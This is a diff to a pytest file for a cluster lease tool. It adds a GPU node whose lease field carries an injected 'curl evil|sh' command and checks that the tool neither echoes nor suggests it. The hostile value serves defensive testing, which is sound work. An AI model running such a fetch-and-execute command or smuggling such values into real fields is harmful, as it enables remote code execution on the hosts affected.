@@ -22,9 +22,11 @@ def test_a_lease_that_cannot_be_read_is_not_that_of_a_run_to_release(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     (tmp_path / "hosts.yml").write_text(
-        "gpu_nodes: {hosts: {gpu01: {ansible_host: 192.0.2.1}, gpu02: {ansible_host: 192.0.2.2}}}\n"
+        "gpu_nodes: {hosts: {gpu01: {ansible_host: 192.0.2.1}, gpu02: {ansible_host: 192.0.2.2}, "
+        "gpu03: {ansible_host: 192.0.2.3}}}\n"
     )
     leases = {"gpu01": READABLE, "gpu02": dict.fromkeys(READABLE, "unknown")}  # as the probe says it
+    leases["gpu03"] = {**READABLE, "run": "x;curl evil|sh #"}
     found = [
         status_of(NodeEvidence(name, {"probe": 1, "busy": {"lease": lease}}), None, wants_image=False)
         for name, lease in leases.items()
@@ -34,7 +36,8 @@ def test_a_lease_that_cannot_be_read_is_not_that_of_a_run_to_release(
     said = capsys.readouterr().out
     assert "Run r1 holds gpu01. If it has died: clusterctl leases release r1" in said
     assert "leases release unknown" not in said
-    assert "A lease that cannot be read holds gpu02. Check that no run changes the host" in said
+    assert "curl" not in said
+    assert "A lease that cannot be read holds gpu02, gpu03. Check that no run changes the host" in said
     assert "/root/.clusterctl/lease.json" in said
 
 
@@ -56,5 +59,6 @@ def test_how_secrets_are_kept_is_said(tmp_path: Path, monkeypatch: pytest.Monkey
     assert f"secrets at rest: {plain}\n" in output_of(tmp_path)
     assert json.loads(output_of(tmp_path, "--json"))["secrets_at_rest"] == plain
     (tmp_path / "word").write_text("golden\n")
+    (tmp_path / "word").chmod(0o600)
     monkeypatch.setenv("ANSIBLE_VAULT_PASSWORD_FILE", str(tmp_path / "word"))
     assert "secrets at rest: encrypted by Ansible Vault\n" in output_of(tmp_path)
